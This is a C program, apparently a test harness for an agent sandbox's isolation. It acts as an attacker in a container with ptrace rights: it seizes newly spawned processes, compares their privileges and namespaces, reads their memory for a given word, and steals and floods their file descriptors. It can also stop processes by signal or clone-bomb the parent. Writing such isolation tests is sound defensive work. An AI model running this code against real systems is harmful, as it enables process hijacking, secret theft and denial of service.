// SPDX-License-Identifier: Apache-2.0
/*
 * attack.c - runs inside a container that was given CAP_SYS_PTRACE, and takes
 * hold of every process the moment it can be seen, as an attacker would who
 * waits for an exec. Prints one line for each process it got before that
 * process ran its own program: "caught PID rights..." and, when the process
 * has anything that the attacker lacks, "MORE what". A word given as argument
 * is looked for in the memory of what was caught ("FOUND word"). With "-s" it
 * has no such capability and stops the next process by a signal instead; with
 * "-w" it writes to what the caught process reports on, without end; with "-c"
 * it makes the agent a parent of as many children as it can.
 *
 * The next number is guessed rather than awaited in /proc, which is faster
 * than any directory can be read.
 */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define AHEAD 3
#define CHUNK (64 << 10)
#define FDS 64

struct rights {
	unsigned long long inh, prm, eff, bnd, amb;
	unsigned uid, seccomp, filters, nnp;
	char exe[64];
};

static bool read_file(int pid, const char *name, char *text, size_t max)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	n = read(fd, text, max - 1);
	close(fd);
	text[n > 0 ? n : 0] = '\0';
	return n > 0;
}

static unsigned long long field(const char *text, const char *name, int base)
{
	const char *at = strstr(text, name);

	return at ? strtoull(at + strlen(name), NULL, base) : 0;
}

static bool take_rights(int pid, struct rights *r)
{
	char text[8192], path[64];
	ssize_t n;

	if (!read_file(pid, "status", text, sizeof(text)))
		return false;
	r->inh = field(text, "CapInh:\t", 16);
	r->prm = field(text, "CapPrm:\t", 16);
	r->eff = field(text, "CapEff:\t", 16);
	r->bnd = field(text, "CapBnd:\t", 16);
	r->amb = field(text, "CapAmb:\t", 16);
	r->uid = (unsigned)field(text, "Uid:\t", 10);
	r->nnp = (unsigned)field(text, "NoNewPrivs:\t", 10);
	r->seccomp = (unsigned)field(text, "Seccomp:\t", 10);
	r->filters = (unsigned)field(text, "Seccomp_filters:\t", 10);
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, r->exe, sizeof(r->exe) - 1);
	r->exe[n > 0 ? n : 0] = '\0';
	return true;
}

static void compare(const struct rights *own, const struct rights *r)
{
	if ((r->inh & ~own->inh) | (r->prm & ~own->prm) | (r->eff & ~own->eff) |
	    (r->bnd & ~own->bnd) | (r->amb & ~own->amb))
		printf("MORE capabilities %llx\n", r->prm | r->bnd);
	if (r->uid != own->uid)
		printf("MORE uid %u\n", r->uid);
	if (r->seccomp < own->seccomp || r->filters < own->filters)
		printf("MORE seccomp %u %u\n", r->seccomp, r->filters);
	if (r->nnp < own->nnp)
		printf("MORE no_new_privs %u\n", r->nnp);
}

/* Every namespace must be the attacker's own. */
static void compare_namespaces(int pid)
{
	static const char *const names[] = { "mnt", "pid",    "ipc",
					     "uts", "cgroup", "user" };

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		char path[64], own[64] = "", theirs[64] = "";

		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		if (readlink(path, own, sizeof(own) - 1) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, names[i]);
		if (readlink(path, theirs, sizeof(theirs) - 1) < 0)
			continue;
		if (strcmp(own, theirs) != 0)
			printf("MORE namespace %s\n", theirs);
	}
}

/* A descriptor sent over it would be one of the agent's, to close. */
static void find_sockets(int pid)
{
	for (int fd = 0; fd < FDS; fd++) {
		char path[64], target[64] = "";

		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		if (readlink(path, target, sizeof(target) - 1) > 0 &&
		    strncmp(target, "socket:", 7) == 0)
			printf("MORE descriptors %s\n", target);
	}
}

static void search_range(int fd, unsigned long from, unsigned long to,
			 const char *word, const char *line)
{
	static char data[CHUNK];

	while (from < to) {
		size_t want = to - from < CHUNK ? to - from : CHUNK;
		ssize_t n = pread(fd, data, want, (off_t)from);

		if (n <= 0)
			return;
		if (memmem(data, (size_t)n, word, strlen(word)))
			printf("FOUND %s in %.60s\n", word, line);
		from += (unsigned long)n;
	}
}

static void search(int pid, const char *word)
{
	static char maps[64 << 10];
	char path[64], *save = NULL;
	int fd;

	if (!read_file(pid, "maps", maps, sizeof(maps)))
		return;
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	for (char *line = strtok_r(maps, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save)) {
		unsigned long from, to;

		if (sscanf(line, "%lx-%lx r", &from, &to) == 2)
			search_range(fd, from, to, word, line);
	}
	close(fd);
}

/* A caught process is looked at while it stands still, then let go. */
static void look(int pid, const struct rights *own, const char *word)
{
	struct rights r = { 0 };
	int status;

	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) != pid)
		return;
	if (WIFSTOPPED(status) && take_rights(pid, &r)) {
		/* Its program may be running by now: then it is just a peer. */
		bool early = strstr(r.exe, "busybox") == NULL;

		compare(own, &r);
		compare_namespaces(pid);
		if (early)
			find_sockets(pid);
		if (early && word)
			search(pid, word);
		printf("%s %d %s\n", early ? "caught" : "late", pid, r.exe);
		fflush(stdout);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* The number of the newest process, from a child of our own. */
static int newest(void)
{
	pid_t pid = fork();

	if (pid == 0)
		_exit(0);
	waitpid(pid, NULL, 0);
	return pid;
}

/* One process, and one more for each byte of input. */
static int stop_next(int last)
{
	char more;

	for (;;)
		for (int pid = last + 1; pid <= last + AHEAD; pid++) {
			if (kill(pid, SIGSTOP) < 0)
				continue;
			printf("stopped %d\n", pid);
			fflush(stdout);
			last = pid;
			if (read(STDIN_FILENO, &more, 1) != 1)
				return 0;
		}
}

static void write_to(int pidfd, int from)
{
	static char data[4096];
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, from, 0);

	if (fd < 0)
		return;
	memset(data, 3, sizeof(data));
	fcntl(fd, F_SETFL, O_NONBLOCK);
	/* Its standard output is among them, and nobody reads that. */
	for (int waited = 0; waited < 100;)
		if (write(fd, data, sizeof(data)) > 0)
			waited = 0;
		else if (errno != EAGAIN)
			break;
		else if (++waited)
			usleep(1000);
	printf("wrote to %d: %s\n", from, strerror(errno));
	fflush(stdout);
	close(fd);
}

/* Held, so that it cannot end the channel by its exec. */
static void write_next(int last)
{
	int status;

	signal(SIGPIPE, SIG_IGN);
	for (;;)
		for (int pid = last + 1; pid <= last + AHEAD; pid++) {
			int pidfd;

			if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
				continue;
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, &status, __WALL);
			pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
			printf("caught %d\n", pid);
			fflush(stdout);
			for (int fd = 3; fd < FDS; fd++)
				write_to(pidfd, fd);
			close(pidfd);
			/* A tracer hears of the end before the parent does. */
			if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
				waitpid(pid, &status, __WALL);
			last = pid;
		}
}

static void clone_siblings(void)
{
	for (;;)
		if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0)
			_exit(0);
}

static int other_mode(char mode, int last)
{
	printf("up\n");
	fflush(stdout);
	switch (mode) {
	case 's':
		return stop_next(last);
	case 'w':
		write_next(last);
		return 0;
	default:
		clone_siblings();
		return 0;
	}
}

int main(int argc, char **argv)
{
	struct rights own = { 0 };
	int last = newest();

	if (argc > 1 && argv[1][0] == '-')
		return other_mode(argv[1][1], last);
	if (!take_rights(getpid(), &own))
		return 2;
	printf("up %llx %u %u\n", own.prm, own.seccomp, own.filters);
	fflush(stdout);
	for (;;)
		for (int pid = last + 1; pid <= last + AHEAD; pid++)
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
				look(pid, &own, argc > 1 ? argv[1] : NULL);
				last = pid;
			}
}
